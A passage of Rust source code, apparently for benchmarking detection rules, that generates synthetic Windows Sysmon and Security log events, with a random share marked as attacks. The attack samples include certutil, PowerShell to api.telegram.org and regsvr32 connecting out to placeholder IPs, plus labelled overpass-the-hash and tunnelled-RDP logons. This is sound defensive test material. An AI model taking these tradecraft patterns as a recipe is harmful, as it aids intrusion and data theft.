    Conn { image: r"C:\Windows\System32\certutil.exe", dst: &["198.51.100.7"], host: "", port: 80, initiated: true },
    Conn { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", dst: &["149.154.167.220"], host: "api.telegram.org", port: 443, initiated: true },
    Conn { image: r"C:\Windows\System32\regsvr32.exe", dst: &["203.0.113.50"], host: "", port: 443, initiated: true },
];

// ── JSON writing ─────────────────────────────────────────────────────────

struct Obj<'a> {
    out: &'a mut String,
    first: bool,
    /// Objects opened by a Winlogbeat header, closed with the event.
    nested: usize,
}

impl<'a> Obj<'a> {
    fn open(out: &'a mut String) -> Self {
        out.push('{');
        Obj {
            out,
            first: true,
            nested: 0,
        }
    }

    fn key(&mut self, k: &str) {
        if !self.first {
            self.out.push_str(", ");
        }
        self.first = false;
        self.out.push('"');
        self.out.push_str(k);
        self.out.push_str("\": ");
    }

    fn s(&mut self, k: &str, v: &str) -> &mut Self {
        self.key(k);
        escape_into(self.out, v);
        self
    }

    fn n(&mut self, k: &str, v: u64) -> &mut Self {
        self.key(k);
        let _ = write!(self.out, "{v}");
        self
    }

    fn b(&mut self, k: &str, v: bool) -> &mut Self {
        self.key(k);
        self.out.push_str(if v { "true" } else { "false" });
        self
    }

    /// Opens a nested object under `k`; its members follow.
    fn nest(&mut self, k: &str) -> &mut Self {
        self.key(k);
        self.out.push('{');
        self.first = true;
        self.nested += 1;
        self
    }

    /// Closes the innermost nested object.
    fn unnest(&mut self) -> &mut Self {
        self.out.push('}');
        self.nested -= 1;
        self
    }

    fn close(self) {
        for _ in 0..=self.nested {
            self.out.push('}');
        }
    }
}

fn escape_into(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

// ── time ─────────────────────────────────────────────────────────────────

/// Days since 1970-01-01 → (year, month, day) (Howard Hinnant's algorithm).
fn civil(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}

/// 2026-03-02T08:00:00Z in microseconds since the epoch.
const START_US: i64 = 1_772_438_400_000_000;

// ── the generator ────────────────────────────────────────────────────────

/// How events are laid out.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Shape {
    /// Flat evtx JSON: System fields and EventData fields at top level
    /// (`benches/windows-flat.toml`).
    #[default]
    Flat,
    /// Winlogbeat: `winlog.channel`, `winlog.event_id`, … with the EventData
    /// fields under `winlog.event_data` (`samples/tocsin.toml`).
    Winlogbeat,
}

impl std::str::FromStr for Shape {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "flat" => Ok(Shape::Flat),
            "winlogbeat" => Ok(Shape::Winlogbeat),
            other => Err(format!("unknown shape `{other}` (expected flat or winlogbeat)")),
        }
    }
}

/// The event stream. Same seed, same stream.
pub struct EventGen {
    rng: Rng,
    attack_rate: f64,
    shape: Shape,
    record_id: u64,
    time_us: i64,
    hosts: Vec<String>,
}

/// Which kind of event to produce, chosen by weight.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    Process,
    Network,
    File,
    Registry,
    Logon,
    LogonFailed,
}

const WEIGHTS: &[(Kind, u64)] = &[
    (Kind::Process, 20),
    (Kind::Network, 15),
    (Kind::File, 25),
    (Kind::Registry, 22),
    (Kind::Logon, 14),
    (Kind::LogonFailed, 4),
];

impl EventGen {
    pub fn new(seed: u64) -> Self {
        Self::with_attack_rate(seed, DEFAULT_ATTACK_RATE)
    }

    pub fn with_attack_rate(seed: u64, attack_rate: f64) -> Self {
        let mut rng = Rng::new(seed);
        let hosts = (0..400)
            .map(|_| format!("WS-{:04}.{DOMAIN_FQDN}", rng.range(1, 9999)))
            .collect();
        EventGen {
            rng,
            attack_rate,
            shape: Shape::Flat,
            record_id: 1_000_000 + (seed % 1000) * 10_000,
            time_us: START_US,
            hosts,
        }
    }

    /// Lays events out as `shape` (default [`Shape::Flat`]).
    pub fn with_shape(mut self, shape: Shape) -> Self {
        self.shape = shape;
        self
    }

    /// The next event as one JSON line (no newline).
    pub fn next_event(&mut self) -> String {
        let mut s = String::with_capacity(1024);
        self.next_into(&mut s);
        s
    }

    /// Appends the next event (no newline) to `out`.
    pub fn next_into(&mut self, out: &mut String) {
        self.record_id += 1;
        self.time_us += self.rng.range(50, 20_000) as i64;
        let total: u64 = WEIGHTS.iter().map(|w| w.1).sum();
        let mut x = self.rng.below(total);
        let mut kind = Kind::Process;
        for &(k, w) in WEIGHTS {
            if x < w {
                kind = k;
                break;
            }
            x -= w;
        }
        let attack = self.rng.chance(self.attack_rate);
        match kind {
            Kind::Process => self.process(out, attack),
            Kind::Network => self.network(out, attack),
            Kind::File => self.file(out, attack),
            Kind::Registry => self.registry(out, attack),
            Kind::Logon => self.logon(out, attack),
            Kind::LogonFailed => self.logon_failed(out, attack),
        }
    }

    fn timestamp(&self) -> (String, String) {
        let secs = self.time_us.div_euclid(1_000_000);
        let us = self.time_us.rem_euclid(1_000_000);
        let (y, mo, d) = civil(secs.div_euclid(86_400));
        let sod = secs.rem_euclid(86_400);
        let (h, mi, s) = (sod / 3600, sod % 3600 / 60, sod % 60);
        (
            format!("{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{us:06}Z"),
            format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}.{:03}", us / 1000),
        )
    }

    fn guid(&mut self) -> String {
        let a = self.rng.next_u64();
        let b = self.rng.next_u64();
        format!(
            "{:08X}-{:04X}-{:04X}-{:04X}-{:012X}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xffff,
            b >> 48,
            b & 0xffff_ffff_ffff
        )
    }

    /// Fills `{u}`, `{n}`, `{h}`, `{sid}` in a template.
    fn fill(&mut self, t: &str, user: &str, sid: &str) -> String {
        if !t.contains('{') {
            return t.to_string();
        }
        let mut out = String::with_capacity(t.len() + 32);
        let mut rest = t;
        while let Some(i) = rest.find('{') {
            out.push_str(&rest[..i]);
            let tail = &rest[i..];
            if let Some(r) = tail.strip_prefix("{u}") {
                out.push_str(user);
                rest = r;
            } else if let Some(r) = tail.strip_prefix("{n}") {
                let _ = write!(out, "{}", self.rng.range(1, 9999));
                rest = r;
            } else if let Some(r) = tail.strip_prefix("{h}") {
                let _ = write!(out, "{:08x}", self.rng.next_u64() as u32);
                rest = r;
            } else if let Some(r) = tail.strip_prefix("{sid}") {
                out.push_str(sid);
                rest = r;
            } else {
                out.push('{');
                rest = &tail[1..];
            }
        }
        out.push_str(rest);
        out
    }

    fn user(&mut self) -> (&'static str, String) {
        let i = self.rng.below(USERS.len() as u64);
        let u = USERS[i as usize];
        (u, format!("S-1-5-21-3623811015-3361044348-30300820-{}", 1104 + i))
    }

    fn workstation(&mut self) -> String {
        let i = self.rng.below(self.hosts.len() as u64) as usize;
        self.hosts[i].clone()
    }

    fn header(&mut self, obj: &mut Obj<'_>, eid: u64, channel: &str, computer: &str, provider: &str) {
        let (ts, _) = self.timestamp();
        match self.shape {
            Shape::Flat => {
                obj.n("EventID", eid)
                    .s("Channel", channel)
                    .s("Computer", computer)
                    .s("Provider_Name", provider)
                    .n("EventRecordID", self.record_id)
                    .s("@timestamp", &ts);
            }
            Shape::Winlogbeat => {
                let host = computer.split('.').next().unwrap_or_default();
                obj.s("@timestamp", &ts).nest("host").s("name", host).unnest();
                obj.nest("event")
                    .s("code", &eid.to_string())
                    .s("provider", provider)
                    .unnest();
                obj.nest("winlog")
                    .s("channel", channel)
                    .n("event_id", eid)
                    .s("computer_name", computer)
                    .n("record_id", self.record_id)
                    .s("provider_name", provider)
                    .nest("event_data");
            }
        }
    }

    fn sysmon_common(&mut self, obj: &mut Obj<'_>) {
        let (_, utc) = self.timestamp();
        let guid = self.guid();
        obj.s("RuleName", "-")
            .s("UtcTime", &utc)
            .s("ProcessGuid", &guid)
            .n("ProcessId", self.rng.range(800, 24_000));
    }

    fn process(&mut self, out: &mut String, attack: bool) {
        let p = if attack {
            self.rng.pick(ATTACK_PROCS)
        } else {
            self.rng.pick(BENIGN_PROCS)
        };
        let computer = self.workstation();
        let (u, sid) = self.user();
        let image = self.fill(p.image, u, &sid);
        let cmd = self.fill(p.cmd, u, &sid);
        let parent = self.fill(p.parent, u, &sid);
        let parent_cmd = self.fill(p.parent_cmd, u, &sid);
        let user = if p.system {
            "NT AUTHORITY\\SYSTEM".to_string()
        } else {
            format!("{DOMAIN}\\{u}")
        };
        let cwd = if p.system {
            "C:\\Windows\\system32\\".to_string()
        } else {
            format!("C:\\Users\\{u}\\")
        };
        let h = mix(fnv(p.image) ^ fnv(p.cmd));
        let hashes = format!(
            "SHA256={:016X}{:016X}{:016X}{:016X}",
            h,
            mix(h ^ 1),
            mix(h ^ 2),
            mix(h ^ 3)
        );
        let mut o = Obj::open(out);
        self.header(&mut o, 1, SYSMON, &computer, SYSMON_PROVIDER);
        self.sysmon_common(&mut o);
        o.s("Image", &image)
            .s("Description", p.desc)
            .s("Product", p.product)
            .s("Company", p.company)
            .s("OriginalFileName", p.ofn)
            .s("CommandLine", &cmd)
            .s("CurrentDirectory", &cwd)
            .s("User", &user)
            .s("IntegrityLevel", if p.system { "System" } else { "Medium" })
            .s("Hashes", &hashes)
            .n("ParentProcessId", self.rng.range(800, 24_000))
            .s("ParentImage", &parent)
            .s("ParentCommandLine", &parent_cmd);
        o.close();
    }

    fn file(&mut self, out: &mut String, attack: bool) {
        let f = if attack {
            self.rng.pick(ATTACK_FILES)
        } else {
            self.rng.pick(BENIGN_FILES)
        };
        let computer = self.workstation();
        let (u, sid) = self.user();
        let image = self.fill(f.image, u, &sid);
        let target = self.fill(f.target, u, &sid);
        let (_, created) = self.timestamp();
        let user = format!("{DOMAIN}\\{u}");
        let mut o = Obj::open(out);
        self.header(&mut o, 11, SYSMON, &computer, SYSMON_PROVIDER);
        self.sysmon_common(&mut o);
        o.s("Image", &image)
            .s("TargetFilename", &target)
            .s("CreationUtcTime", &created)
            .s("User", &user);
        o.close();
    }

    fn registry(&mut self, out: &mut String, attack: bool) {
        let r = if attack {
            self.rng.pick(ATTACK_REGS)
        } else {
            self.rng.pick(BENIGN_REGS)
        };
        let computer = self.workstation();
        let (u, sid) = self.user();
        let image = self.fill(r.image, u, &sid);
        let target = self.fill(r.target, u, &sid);
        let details = self.fill(r.details, u, &sid);
        let user = if r.image.contains("svchost") || r.image.contains("SearchIndexer") {
            "NT AUTHORITY\\SYSTEM".to_string()
        } else {
            format!("{DOMAIN}\\{u}")
        };
        let mut o = Obj::open(out);
        self.header(&mut o, 13, SYSMON, &computer, SYSMON_PROVIDER);
        o.s("RuleName", "-").s("EventType", "SetValue");
        let (_, utc) = self.timestamp();
        let guid = self.guid();
        o.s("UtcTime", &utc)
            .s("ProcessGuid", &guid)
            .n("ProcessId", self.rng.range(800, 24_000))
            .s("Image", &image)
            .s("TargetObject", &target)
            .s("Details", &details)
            .s("User", &user);
        o.close();
    }

    fn network(&mut self, out: &mut String, attack: bool) {
        let c = if attack {
            self.rng.pick(ATTACK_CONNS)
        } else {
            self.rng.pick(BENIGN_CONNS)
        };
        let computer = self.workstation();
        let (u, sid) = self.user();
        let image = self.fill(c.image, u, &sid);
        let user = if c.image.contains("svchost") {
            "NT AUTHORITY\\NETWORK SERVICE".to_string()
        } else {
            format!("{DOMAIN}\\{u}")
        };
        let src_ip = format!("10.20.{}.{}", self.rng.range(0, 15), self.rng.range(2, 254));
        let dst = *self.rng.pick(c.dst);
        let mut o = Obj::open(out);
        self.header(&mut o, 3, SYSMON, &computer, SYSMON_PROVIDER);
        self.sysmon_common(&mut o);
        let short = computer.split('.').next().unwrap_or_default().to_string();
        o.s("Image", &image)
            .s("User", &user)
            .s("Protocol", "tcp")
            .b("Initiated", c.initiated)
            .s("SourceIp", &src_ip)
            .s("SourceHostname", &format!("{short}.{DOMAIN_FQDN}"))
            .n("SourcePort", self.rng.range(49_152, 65_535))
            .s("DestinationIp", dst)
            .s("DestinationHostname", if c.host.is_empty() { "-" } else { c.host })
            .n("DestinationPort", u64::from(c.port));
        o.close();
    }

    fn logon(&mut self, out: &mut String, attack: bool) {
        let dc = format!("DC0{}.{DOMAIN_FQDN}", self.rng.range(1, 2));
        let (u, sid) = self.user();
        // (logon type, process, package, source ip, workstation, user)
        let (ltype, proc_name, pkg, ip, ws, user, user_sid): (u64, &str, &str, String, String, String, String) =
            if attack {
                match self.rng.below(3) {
                    // RDP from the loopback: tunnelled RDP.
                    0 => (
                        10,
                        "User32 ",
                        "Negotiate",
                        "127.0.0.1".into(),
                        self.short_ws(),
                        u.to_string(),
                        sid,
                    ),
                    // Overpass-the-hash: seclogo with Negotiate, logon type 9.
                    1 => (
                        9,
                        "seclogo",
                        "Negotiate",
                        "::1".into(),
                        self.short_ws(),
                        u.to_string(),
                        sid,
                    ),
                    // NTLM network logon with a null key from an unknown host.
                    _ => (
                        3,
                        "NtLmSsp ",
                        "NTLM",
                        "203.0.113.77".into(),
                        "kali".into(),
                        "Administrator".into(),
                        "S-1-5-21-3623811015-3361044348-30300820-500".into(),
                    ),
                }
            } else {
                match self.rng.below(10) {
                    0..=5 => {
                        let ip = format!("10.20.{}.{}", self.rng.range(0, 15), self.rng.range(2, 254));
                        (3, "Kerberos", "Kerberos", ip, "-".into(), u.to_string(), sid)
                    }
                    6 | 7 => (
                        5,
                        "Advapi  ",
                        "Negotiate",
                        "-".into(),
                        "-".into(),
                        "SYSTEM".into(),
                        "S-1-5-18".into(),
                    ),
                    8 => {
                        let server = *self.rng.pick(SERVERS);
                        (
                            3,
                            "Kerberos",
                            "Kerberos",
                            format!("10.1.0.{}", self.rng.range(20, 60)),
                            "-".into(),
                            format!("{server}$"),
                            "S-1-5-21-3623811015-3361044348-30300820-2201".into(),
                        )
                    }
                    _ => (
                        2,
                        "User32 ",
                        "Negotiate",
                        "127.0.0.1".into(),
                        self.short_ws(),
                        u.to_string(),
                        sid,
                    ),
                }
            };
        let port = if ip == "-" { 0 } else { self.rng.range(49_152, 65_535) };
        let mut o = Obj::open(out);
        self.header(&mut o, 4624, "Security", &dc, "Microsoft-Windows-Security-Auditing");
        o.s("SubjectUserName", if ltype == 3 { "-" } else { "DC01$" })
            .s("SubjectDomainName", if ltype == 3 { "-" } else { DOMAIN })
            .s("SubjectLogonId", if ltype == 3 { "0x0" } else { "0x3e7" })
            .s("TargetUserSid", &user_sid)
            .s("TargetUserName", &user)
            .s(
                "TargetDomainName",
                if user == "SYSTEM" { "NT AUTHORITY" } else { DOMAIN },
            )
            .s(
                "TargetLogonId",
                &format!("0x{:x}", self.rng.range(0x10_0000, 0xfff_ffff)),
            )
            .n("LogonType", ltype)
            .s("LogonProcessName", proc_name)
            .s("AuthenticationPackageName", pkg)
            .s("WorkstationName", &ws)
            .s("LmPackageName", if pkg == "NTLM" { "NTLM V2" } else { "-" })
            .n("KeyLength", if pkg == "NTLM" && !attack { 128 } else { 0 })
            .s("ProcessId", if ltype == 3 { "0x0" } else { "0x2a4" })
            .s(
                "ProcessName",
                if ltype == 3 {
                    "-"
                } else {
                    r"C:\Windows\System32\lsass.exe"
                },
            )
            .s("IpAddress", &ip)
            .s("IpPort", &port.to_string());
        o.close();
    }

    fn short_ws(&mut self) -> String {
        let w = self.workstation();
        w.split('.').next().unwrap_or_default().to_string()
    }

    fn logon_failed(&mut self, out: &mut String, attack: bool) {
        let dc = format!("DC0{}.{DOMAIN_FQDN}", self.rng.range(1, 2));
        let (u, _) = self.user();
        let ws = self.short_ws();
        // Attacks: logons to disabled / expired / restricted accounts.
        let (status, sub) = if attack {
            *self.rng.pick(&[
                ("0xc000006e", "0xc0000072"),
                ("0xc000006e", "0xc0000070"),
                ("0xc000006e", "0xc000006f"),
                ("0xc000015b", "0x0"),
            ])
        } else {
            ("0xc000006d", "0xc000006a")
        };
        let ip = format!("10.20.{}.{}", self.rng.range(0, 15), self.rng.range(2, 254));
        let mut o = Obj::open(out);
        self.header(&mut o, 4625, "Security", &dc, "Microsoft-Windows-Security-Auditing");
        o.s("SubjectUserName", "-")
            .s("SubjectDomainName", "-")
            .s("SubjectLogonId", "0x0")
            .s("TargetUserName", u)
            .s("TargetDomainName", DOMAIN)
            .s("Status", status)
            .s("FailureReason", "%%2313")
            .s("SubStatus", sub)
            .n("LogonType", 3)
            .s("LogonProcessName", "NtLmSsp ")
            .s("AuthenticationPackageName", "NTLM")
            .s("WorkstationName", &ws)
            .n("KeyLength", 0)
            .s("ProcessId", "0x0")
            .s("ProcessName", "-")
            .s("IpAddress", &ip)
            .s("IpPort", &self.rng.range(49_152, 65_535).to_string());
        o.close();
    }
}

/// `n` flat events from `seed` at the default attack rate, one JSON object per string.
pub fn events(seed: u64, n: usize) -> Vec<String> {
    let mut g = EventGen::new(seed);
    (0..n).map(|_| g.next_event()).collect()
}

/// Writes the next `n` events of `g` as NDJSON to `path`; returns the bytes written.
pub fn write_ndjson(path: &Path, n: u64, mut g: EventGen) -> io::Result<u64> {
    let mut w = BufWriter::with_capacity(1 << 20, std::fs::File::create(path)?);
    let mut line = String::with_capacity(2048);
    let mut bytes = 0u64;
    for _ in 0..n {
        line.clear();
        g.next_into(&mut line);
        line.push('\n');
        w.write_all(line.as_bytes())?;
        bytes += line.len() as u64;
    }
    w.flush()?;
    Ok(bytes)
}
